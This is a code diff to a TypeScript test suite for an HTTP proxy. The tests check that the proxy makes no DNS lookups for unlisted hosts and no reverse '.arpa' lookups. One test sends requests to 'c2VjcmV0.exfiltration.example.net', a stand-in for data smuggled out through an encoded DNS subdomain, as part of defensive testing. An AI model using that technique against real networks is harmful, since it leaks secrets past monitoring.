@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import { setTimeout } from 'node:timers/promises';
 import { reverse } from './attempts';
 import { connect, openTunnel, raw, request, requestInside } from './client';
@@ -203,17 +204,27 @@ describe.each(KINDS)('by %s,', (kind) => {
       expect(await connect(proxy, 'missing.example.com:443')).toMatchObject({ status: 407, error: 'ERR_NAME' });
     });
 
+    /** A query that is sent is seen before one that is sent later. */
+    const queriesSoFar = async (): Promise<string[]> => {
+      const witness = `witness-${randomUUID()}.example.org`;
+      await request(proxy, `http://${witness}/`);
+      return until('the witness', async () => {
+        const seen = await laboratory.queries();
+        return seen.includes(witness) ? seen : undefined;
+      });
+    };
+
     test('asks no name server for a host that is not listed', async () => {
       const host = 'c2VjcmV0.exfiltration.example.net';
       await request(proxy, `http://${host}/`);
       await connect(proxy, `${host}:443`);
-      // A query that is sent is seen before one that is sent later.
-      await request(proxy, `http://witness-${kind}.example.org/`);
-      const queries = await until('the witness', async () => {
-        const seen = await laboratory.queries();
-        return seen.includes(`witness-${kind}.example.org`) ? seen : undefined;
-      });
+      const queries = await queriesSoFar();
       expect(queries.filter((name) => name.includes('exfiltration'))).toEqual([]);
+    });
+
+    test('asks no name server for the name of a client, or of any address', async () => {
+      await request(proxy, 'http://www.example.org/');
+      expect((await queriesSoFar()).filter((name) => name.endsWith('.arpa'))).toEqual([]);
     });
 
     test.each(['TRACE', 'PURGE', 'PROPFIND'])('refuses the method %s', async (method) => {
